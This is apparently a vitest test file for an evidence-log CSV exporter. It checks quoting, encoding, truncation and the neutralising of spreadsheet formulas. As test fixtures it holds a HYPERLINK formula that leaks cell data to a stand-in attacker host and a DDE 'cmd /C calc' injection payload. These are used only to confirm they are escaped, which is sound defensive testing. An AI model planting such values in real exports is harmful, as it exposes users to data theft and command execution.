import { describe, expect, it } from 'vitest';
import { CSV_CELL_LIMIT, LOG_CSV_COLUMNS, csvCell, logCsvText, renderLogCsv } from '@/utils/export/log-csv';
import { HOSTILE, makeBundle, ordinaryBundle } from './report-fixtures';

/** A strict RFC 4180 reader: every field must be quoted, as ours are. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
    let value = '';
    i += 1;
    for (;;) {
      if (text[i] === '"' && text[i + 1] === '"') {
        value += '"';
        i += 2;
      } else if (text[i] === '"') {
        i += 1;
        break;
      } else {
        value += text[i];
        i += 1;
      }
    }
    row.push(value);
    if (text[i] === ',') i += 1;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}

describe('renderLogCsv', () => {
  it('is UTF-8 with a byte-order mark and CRLF line ends', () => {
    const bytes = renderLogCsv(ordinaryBundle().input);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith('\ufeff"No."')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '').includes('\r')).toBe(false);
  });

  it('has one row per capture in chronological order with time local and UTC, platform, author, URL, title, notes, screenshot SHA-256 and folder', () => {
    const { input } = ordinaryBundle();
    const rows = parseCsv(logCsvText(input));
    expect(rows[0]).toEqual([...LOG_CSV_COLUMNS]);
    expect(rows).toHaveLength(4);
    const col = (name: (typeof LOG_CSV_COLUMNS)[number]) => LOG_CSV_COLUMNS.indexOf(name);
    const first = rows[1];
    const capture = input.captures.find((c) => c.entry.title === 'First post')!;
    expect(first[col('No.')]).toBe('1');
    expect(first[col('Captured (local time)')]).toBe('Sat 28 Nov 2026, 09:00:05 (UTC+01:00, Europe/Madrid)');
    expect(first[col('Captured (UTC)')]).toBe('Sat 28 Nov 2026, 08:00:05 UTC');
    expect(first[col('Captured (UTC, ISO 8601)')]).toBe('2026-11-28T08:00:05.250Z');
    expect(first[col('Platform')]).toBe('x (social.example)');
    expect(first[col('Author')]).toBe('Troll Account · @troll');
    expect(first[col('Page address')]).toBe('https://social.example/@troll/status/1');
    expect(first[col('Page title')]).toBe('First post');
    expect(first[col('Screenshot SHA-256')]).toBe(capture.files.find((f) => f.path.endsWith('screenshot.png'))!.sha256);
    expect(first[col('Folder in the bundle')]).toBe(capture.entry.folder);
    expect(rows[2][col('Notes')]).toBe('He posted this after I blocked him.');
    expect(rows[3][col('Status')]).toBe('failed');
    expect(rows[3][col('Not completed because')]).toBe('The tab was closed before the screenshot could be taken.');
    expect(rows[3][col('Screenshot SHA-256')]).toBe('');
  });

  it('quotes every field and doubles quotes, keeping commas and line breaks inside the cell', () => {
    const { input } = makeBundle([{ url: 'https://a.example/', title: 'He said "stop", then\nleft', pressedAt: '2026-11-28T08:00:00.000Z', notes: ['one', 'two, three'] }]);
    const text = logCsvText(input);
    expect(text).toContain('"He said ""stop"", then\nleft"');
    const rows = parseCsv(text);
    expect(rows[1][LOG_CSV_COLUMNS.indexOf('Page title')]).toBe('He said "stop", then\nleft');
    expect(rows[1][LOG_CSV_COLUMNS.indexOf('Notes')]).toBe('one\ntwo, three');
  });

  it('neutralises formulas in titles, authors, URLs and notes from the page', () => {
    const { input } = makeBundle([
      {
        url: 'https://a.example/',
        title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        pressedAt: '2026-11-28T08:00:00.000Z',
        notes: ['@SUM(1+1)*cmd|" /C calc"!A0'],
        post: { platform: 'x', kind: 'post', author: { displayName: '+1-555-0100', handle: '-2+3' } },
      },
    ]);
    const row = parseCsv(logCsvText(input))[1];
    expect(row[LOG_CSV_COLUMNS.indexOf('Page title')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(row[LOG_CSV_COLUMNS.indexOf('Notes')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(row[LOG_CSV_COLUMNS.indexOf('Author')]).toBe(`'+1-555-0100 · -2+3`);
  });
});

describe('csvCell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@A1', `"'@A1"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['  =1', `"'  =1"`],
    ['\uff1d1+1', `"'\uff1d1+1"`],
    ['\uff20A1', `"'\uff20A1"`],
    ['a=1', '"a=1"'],
    ['2026-11-28', '"2026-11-28"'],
    ['', '""'],
    ['say "hi"', '"say ""hi"""'],
  ])('%j → %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('replaces control characters that spreadsheets refuse', () => {
    expect(csvCell('a\u0000b\u0007c\u001bd')).toBe('"a\ufffdb\ufffdc\ufffdd"');
  });

  it('cuts cells longer than a spreadsheet can hold and says so', () => {
    const cell = csvCell(HOSTILE.longLine + HOSTILE.longLine + HOSTILE.longLine);
    expect(cell.length).toBeLessThan(32_767);
    expect(cell.startsWith(`"${HOSTILE.longLine.slice(0, 100)}`)).toBe(true);
    expect(cell).toContain('[…cut; the whole value is in the bundle]');
    expect(cell.length).toBe(CSV_CELL_LIMIT + ' […cut; the whole value is in the bundle]'.length + 2);
  });
});
